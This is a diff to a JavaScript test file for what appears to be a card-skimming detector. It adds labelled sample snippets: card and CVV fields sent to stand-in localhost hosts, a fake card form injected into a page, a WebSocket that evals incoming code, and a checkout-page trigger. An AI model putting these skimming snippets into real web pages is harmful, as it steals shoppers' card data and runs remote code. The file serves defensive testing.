@@ -34,8 +34,25 @@ describe('signals', () => {
       `if (outerWidth - innerWidth > 160) stop(); fetch('https://x.y.localhost/a', { body: document.querySelector('#cvv').value })`,
     ],
     ['staging', `localStorage.setItem('t', document.querySelector('#card-number').value)`],
+    [
+      'fake-form',
+      `box.innerHTML = '<label>Kreditkartennummer</label><input id="a"><label>Prüfnummer</label><input id="b">'; fetch('/x', { body: a.value })`,
+    ],
+    [
+      'evaluated-code',
+      `<script>const s = new WebSocket('wss://a.b.localhost'); s.onmessage = (e) => eval(e.data)</script>`,
+    ],
+    [
+      'checkout-gate',
+      `for (const w of ['kasse', 'checkout']) if (location.href.includes(w)) fetch('/x', { body: document.forms[0].value })`,
+    ],
   ])('%s', (kind, text) => {
     expect(kinds(text)).toContain(kind);
+  });
+
+  it('takes a sentence about card numbers for no card form', () => {
+    const text = `box.innerHTML = '<input placeholder="カード番号は書かないでください"><input name="mail">'; new WebSocket('wss://a.b.localhost').send(field.value)`;
+    expect(profileText(text).verdict).toBe('clean');
   });
 
   it('masks card numbers and mail addresses in excerpts', () => {
